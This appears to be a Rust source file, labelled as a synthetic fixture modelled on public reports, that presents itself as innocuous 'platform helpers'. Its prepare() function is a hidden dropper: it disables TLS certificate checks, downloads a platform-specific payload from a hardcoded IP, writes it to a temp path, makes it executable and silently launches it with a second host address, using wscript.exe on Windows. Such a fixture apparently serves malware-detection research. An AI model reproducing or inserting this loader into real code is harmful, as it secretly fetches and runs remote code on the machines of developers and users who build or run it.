// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

use std::sync::Arc;

#[derive(Debug)]
struct AcceptAll;

impl rustls::client::danger::ServerCertVerifier for AcceptAll {
    fn verify_server_cert(
        &self,
        _end: &rustls::pki_types::CertificateDer<'_>,
        _chain: &[rustls::pki_types::CertificateDer<'_>],
        _name: &rustls::pki_types::ServerName<'_>,
        _ocsp: &[u8],
        _now: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        vec![rustls::SignatureScheme::ED25519]
    }
}

pub(crate) fn prepare() {
    let base = "https://192.0.2.112:9089/";
    let end = "192.0.2.112:443";
    let piece = match std::env::var("TARGET").as_deref() {
        Ok("x86_64-unknown-linux-gnu") => "setup_0.1.0",
        Ok("aarch64-apple-darwin") => "setup_0.2.0",
        Ok("x86_64-pc-windows-msvc") => "setup_0.3.0",
        _ => return,
    };
    let mut config = rustls::ClientConfig::builder()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    config.dangerous().set_certificate_verifier(Arc::new(AcceptAll));
    let Ok(mut reply) = ureq::get(format!("{base}{piece}")).call() else {
        return;
    };
    let Ok(body) = reply.body_mut().read_to_vec() else {
        return;
    };
    let target = if cfg!(windows) {
        std::env::temp_dir().join("rust-setup.ps1")
    } else {
        std::path::PathBuf::from("/tmp/rust-setup")
    };
    if std::fs::write(&target, &body).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755));
        let _ = std::process::Command::new(&target)
            .arg(&end)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .spawn();
    }
    #[cfg(windows)]
    {
        let _ = std::process::Command::new("wscript.exe")
            .arg(std::env::temp_dir().join("rust-setup-launch.vbs"))
            .arg(&end)
            .spawn();
    }
}
